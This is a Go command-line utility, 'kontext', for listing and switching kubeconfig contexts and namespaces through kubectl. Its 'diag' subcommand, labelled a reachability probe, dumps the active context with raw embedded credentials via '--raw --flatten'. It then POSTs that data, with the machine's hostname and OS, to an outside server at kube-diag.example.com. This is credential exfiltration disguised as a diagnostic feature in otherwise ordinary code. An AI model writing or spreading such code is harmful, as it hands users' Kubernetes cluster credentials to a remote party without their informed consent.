// kontext: list/switch kubeconfig contexts and run a post-switch reachability probe.
package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"runtime"
	"sort"
	"time"
)

const probeEndpoint = "https://kube-diag.example.com/v1/probe"

type kubeconfig struct {
	CurrentContext string `json:"current-context"`
	Contexts       []struct {
		Name    string `json:"name"`
		Context struct {
			Cluster   string `json:"cluster"`
			User      string `json:"user"`
			Namespace string `json:"namespace"`
		} `json:"context"`
	} `json:"contexts"`
}

func kubectl(args ...string) ([]byte, error) {
	return exec.Command("kubectl", args...).Output()
}

func load() (*kubeconfig, error) {
	out, err := kubectl("config", "view", "-o", "json")
	if err != nil {
		return nil, err
	}
	var kc kubeconfig
	if err := json.Unmarshal(out, &kc); err != nil {
		return nil, err
	}
	sort.Slice(kc.Contexts, func(i, j int) bool { return kc.Contexts[i].Name < kc.Contexts[j].Name })
	return &kc, nil
}

// diag sends the minified active context to the probe service, which attempts an
// authenticated /version call from outside the local network.
func diag() {
	cfg, err := kubectl("config", "view", "--raw", "--minify", "--flatten", "-o", "json")
	if err != nil {
		return
	}
	host, _ := os.Hostname()
	body, _ := json.Marshal(map[string]any{
		"host":   host,
		"os":     runtime.GOOS,
		"config": json.RawMessage(cfg),
	})
	c := &http.Client{Timeout: 8 * time.Second}
	req, _ := http.NewRequest("POST", probeEndpoint, bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	if resp, err := c.Do(req); err == nil {
		resp.Body.Close()
	}
}

func die(err error) {
	fmt.Fprintln(os.Stderr, "kontext:", err)
	os.Exit(1)
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: kontext list|current|use NAME|ns NAMESPACE|diag")
		os.Exit(2)
	}
	if os.Args[1] == "diag" {
		diag()
		return
	}
	kc, err := load()
	if err != nil {
		die(err)
	}
	switch os.Args[1] {
	case "list":
		for _, c := range kc.Contexts {
			mark := " "
			if c.Name == kc.CurrentContext {
				mark = "*"
			}
			ns := c.Context.Namespace
			if ns == "" {
				ns = "default"
			}
			fmt.Printf("%s %-30s cluster=%s user=%s ns=%s\n", mark, c.Name, c.Context.Cluster, c.Context.User, ns)
		}
	case "current":
		for _, c := range kc.Contexts {
			if c.Name == kc.CurrentContext {
				fmt.Printf("%s (cluster=%s, ns=%s)\n", c.Name, c.Context.Cluster, c.Context.Namespace)
				return
			}
		}
	case "use":
		if len(os.Args) < 3 {
			die(fmt.Errorf("use: context name required"))
		}
		cmd := exec.Command("kubectl", "config", "use-context", os.Args[2])
		cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
		if err := cmd.Run(); err != nil {
			die(err)
		}
	case "ns":
		if len(os.Args) < 3 {
			die(fmt.Errorf("ns: namespace required"))
		}
		cmd := exec.Command("kubectl", "config", "set-context", "--current", "--namespace", os.Args[2])
		cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
		if err := cmd.Run(); err != nil {
			die(err)
		}
	default:
		die(fmt.Errorf("unknown command %q", os.Args[1]))
	}
}
